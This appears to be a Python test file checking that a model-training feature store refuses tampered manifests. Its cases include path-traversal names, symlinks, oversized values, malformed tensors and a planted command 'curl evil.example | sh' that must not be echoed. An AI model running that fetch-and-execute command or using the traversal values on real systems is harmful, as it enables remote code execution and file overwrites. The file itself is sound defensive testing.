"""A store of someone else's names no file but its own, and is read within bounds."""

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load_file, save_file
from test_capture import settings, write

from drafttrain.data.batches import collate
from drafttrain.runtime.disk import digest_of
from drafttrain.target.model import Target
from drafttrain.target.store.features import StoredTarget


@pytest.fixture(scope="module")
def whole(target: Target, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("whole")
    write(target, folder)
    return folder


@pytest.fixture
def folder(whole: Path, tmp_path: Path) -> Path:
    shutil.copytree(whole, tmp_path / "store")
    (tmp_path / "victim.txt").write_text("precious")
    return tmp_path / "store"


def edit(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change the manifest as one who knows its format would, fingerprint and all."""
    file = folder / "manifest.json"
    plain = json.loads(file.read_text())
    change(plain)
    plain["fingerprint"] = digest_of(plain["settings"])[:32]
    file.write_text(json.dumps(plain))


def read(folder: Path) -> None:
    store = StoredTarget(folder, torch.float32, torch.device("cpu"), False)
    store.read(collate(store.samples), (1, 2))


def refused(folder: Path, target: Target, message: str) -> None:
    """Neither `capture` nor training takes the store; nobody's file but the store's is touched."""
    for work in (lambda: read(folder), lambda: write(target, folder)):
        with pytest.raises(ValueError, match=message) as caught:
            work()
        assert str(caught.value).isprintable()
        assert (folder.parent / "victim.txt").read_text() == "precious"


@pytest.mark.parametrize(
    # "/" stands for the victim by its absolute path: a test must not name what others need.
    "name",
    ["../victim.txt", "/", "a/../../victim.txt", "victim.txt", "manifest.json", 7],
)
@pytest.mark.parametrize("place", ["shard", "journal", "conversations", "readout"])
def test_a_store_names_its_own_files_only(
    name: object, place: str, folder: Path, target: Target
) -> None:
    if name == "/":
        name = str(folder.parent / "victim.txt")
    plain = json.loads((folder / "manifest.json").read_text())
    foreign = plain["shards"][0] | {"file": name}
    if place == "journal":
        edit(folder, lambda plain: plain | {"complete": False})
        (folder / "journal-0.jsonl").write_text(json.dumps(foreign) + "\n")
        with pytest.raises(ValueError, match=r"journal-0\.jsonl"):
            write(target, folder)
        assert (folder.parent / "victim.txt").read_text() == "precious"
        return
    changes: dict[str, Callable[[dict[str, Any]], object]] = {
        "shard": lambda plain: plain.update(shards=[foreign, *plain["shards"][1:]]),
        "conversations": lambda plain: plain["conversations"].update(file=name),
        "readout": lambda plain: plain["readout"]["file"].update(file=name),
    }
    edit(folder, changes[place])
    refused(folder, target, r"manifest\.json.*file")


@pytest.mark.parametrize("wrong", [{"squares": {"x": [0, 0]}}, {"squares": {}}, {"rows": "1"}])
def test_a_journal_records_what_the_store_holds(
    wrong: dict[str, Any], folder: Path, target: Target
) -> None:
    shard = json.loads((folder / "manifest.json").read_text())["shards"][0]
    (folder / "journal-0.jsonl").write_text(json.dumps(shard | wrong) + "\n")
    with pytest.raises(ValueError, match=r"journal-0\.jsonl must be a journal as `capture` wrote"):
        write(target, folder)


@pytest.mark.parametrize("wrong", [{"file": "shard-00099.safetensors"}, {"conversations": [1]}])
def test_a_shard_of_other_conversations_is_captured_again(
    wrong: dict[str, Any], folder: Path, whole: Path, target: Target
) -> None:
    shard = json.loads((folder / "manifest.json").read_text())["shards"][0]
    (folder / "journal-0.jsonl").write_text(json.dumps(shard | wrong) + "\n")
    write(target, folder)
    for file in ("shard-00000.safetensors", "manifest.json"):
        assert (folder / file).read_bytes() == (whole / file).read_bytes()


@pytest.mark.parametrize(
    "name",
    ["shard-00000.safetensors", "readout.safetensors", "conversations.safetensors",
     "manifest.json", "journal-0.jsonl", ".manifest.json.tmp", ".probe.tmp"],
)  # fmt: skip
def test_a_link_in_a_store_is_not_followed(name: str, folder: Path, target: Target) -> None:
    victim = folder.parent / "victim.txt"
    if (folder / name).exists():  # what it would be, elsewhere: nothing but the link is wrong
        shutil.move(folder / name, victim)
    before = victim.read_bytes()
    (folder / name).symlink_to(victim)
    if not name.startswith((".", "journal")):
        with pytest.raises(ValueError, match=rf"{name} must be .*file.*link"):
            read(folder)
    (folder / "shard-00001.safetensors").unlink()  # something to write
    with pytest.raises(ValueError, match=rf"{name} must be .*file.*link"):
        write(target, folder)
    assert victim.read_bytes() == before


def test_no_command_of_a_store_is_repeated(folder: Path, target: Target) -> None:
    provenance = {"command": "curl evil.example | sh #"}
    (folder / "provenance.json").write_text(json.dumps(provenance))
    (folder / "shard-00002.safetensors").unlink()
    with pytest.raises(ValueError, match=r"python -m drafttrain capture store\.dir=") as caught:
        read(folder)
    assert "evil" not in str(caught.value)
    for said in ("'store.layers=[1,2]'", "store.dtype=float32", "store.shard_mb=0.025"):
        assert said in str(caught.value)


def setting(key: str, value: object) -> Callable[[dict[str, Any]], object]:
    return lambda plain: plain["settings"].update({key: value})


def about_target(key: str, value: object) -> Callable[[dict[str, Any]], object]:
    return lambda plain: plain["target"].update({key: value})


WRONG: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
    "no layers": (setting("store.layers", None), r"store\.layers"),
    "layers that the target lacks": (setting("store.layers", [1, 99]), r"store\.layers"),
    "dtype": (setting("store.dtype", "../x"), r"store\.dtype"),
    "shard size": (setting("store.shard_mb", 1e300), r"store\.shard_mb"),
    "shard size of zero": (setting("store.shard_mb", 0), r"store\.shard_mb"),
    "reach": (setting("reach of store.drafters", -3), r"reach"),
    "width": (about_target("hidden_size", 10**12), r"target\.hidden_size"),
    "vocabulary": (about_target("vocab_size", 10**12), r"target\.vocab_size"),
    "a name to be shown": (about_target("name", "\x1b[31m\n"), r"target\.name"),
    "row size": (lambda plain: plain.update(bytes_per_row=0), "bytes_per_row"),
    "row size of another": (lambda plain: plain.update(bytes_per_row=7), "bytes_per_row"),
    "squares": (lambda plain: plain["shards"][0].update(squares={}), "squares"),
    "negative squares": (
        lambda plain: plain["shards"][0]["squares"].update(final_hidden=[-1.0, 1.0]), "squares"),
    "a shard less": (lambda plain: plain["shards"].pop(), "shards"),
    "a shard twice": (lambda plain: plain["shards"].append(plain["shards"][0]), "shards"),
    "scale": (lambda plain: plain["readout"].update(logit_scale="x"), r"readout\.logit_scale"),
    "scale that is none": (
        lambda plain: plain["readout"].update(logit_scale=float("nan")), r"logit_scale"),
}  # fmt: skip


@pytest.mark.parametrize("name", WRONG)
def test_a_value_of_a_manifest_is_refused_by_name(name: str, folder: Path) -> None:
    change, said = WRONG[name]
    edit(folder, change)
    with pytest.raises(ValueError, match=rf"manifest\.json.*{said}"):
        read(folder)


def test_deep_json_is_one_line(folder: Path, target: Target) -> None:
    (folder / "manifest.json").write_text("[" * 100_000)
    refused(folder, target, r"manifest\.json .*JSON")


def record(folder: Path, name: str) -> dict[str, Any]:
    content = (folder / name).read_bytes()
    return {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}


TENSORS: dict[str, tuple[str, Callable[[dict[str, torch.Tensor]], object], str]] = {
    "a token that the target lacks": (
        "conversations", lambda t: t["tokens"].fill_(500), r"tokens .*0\.\.96"),
    "lengths that do not add up": (
        "conversations", lambda t: t["lengths"].fill_(3), r"lengths"),
    "negative lengths": ("conversations", lambda t: t["lengths"].neg_(), r"lengths"),
    "an index twice": ("conversations", lambda t: t["index"].fill_(3), r"index"),
    "no mask": ("conversations", lambda t: t.pop("loss_mask"), r"loss_mask"),
    "a mask of numbers": (
        "conversations", lambda t: t.update(loss_mask=t["loss_mask"].int()), r"loss_mask"),
    "no embedding": ("readout", lambda t: t.pop("embedding"), "embedding"),
    "an embedding of another width": (
        "readout", lambda t: t.update(embedding=t["embedding"][:, :5].contiguous()), "embedding"),
    "a shard without a layer": ("shard-00000", lambda t: t.pop("layer.1"), r"layer\.1"),
    "a shard of fewer rows": (
        "shard-00000", lambda t: t.update({"layer.1": t["layer.1"][:3].contiguous()}), r"layer\.1"),
}  # fmt: skip


@pytest.mark.parametrize("name", TENSORS)
def test_tensors_that_a_store_must_not_hold_are_named(name: str, folder: Path) -> None:
    file, change, said = TENSORS[name]
    tensors = load_file(folder / f"{file}.safetensors")
    change(tensors)
    save_file(tensors, folder / f"{file}.safetensors")
    new = record(folder, f"{file}.safetensors")

    def register(plain: dict[str, Any]) -> None:
        places = {
            "conversations": plain["conversations"],
            "readout": plain["readout"]["file"],
            "shard-00000": plain["shards"][0],
        }
        places[file].update(new)

    edit(folder, register)
    with pytest.raises(ValueError, match=rf"{file}\.safetensors.*{said}"):
        read(folder)


def test_a_store_that_is_as_it_was_written_is_read(folder: Path, target: Target) -> None:
    """The control: what the tests above refuse is refused for what they changed."""
    edit(folder, lambda plain: None)
    read(folder)
    write(target, folder)
    assert settings(folder).dtype == "float32"
    os.symlink(folder, folder.parent / "linked")  # what a user names may be a link
    read(folder.parent / "linked")


def test_a_store_without_a_token_to_train_on_is_refused(whole: Path, folder: Path) -> None:
    tensors = load_file(whole / "conversations.safetensors")
    starts = torch.cumsum(tensors["lengths"], 0) - tensors["lengths"]
    tensors["loss_mask"][:] = False
    tensors["loss_mask"][starts] = True  # nothing comes before a first token
    file = folder / "conversations.safetensors"
    save_file(tensors, file)
    changed = {"sha256": hashlib.sha256(file.read_bytes()).hexdigest()}
    edit(folder, lambda plain: plain["conversations"].update(changed))
    with pytest.raises(ValueError, match="loss_mask must name some token to train on"):
        read(folder)
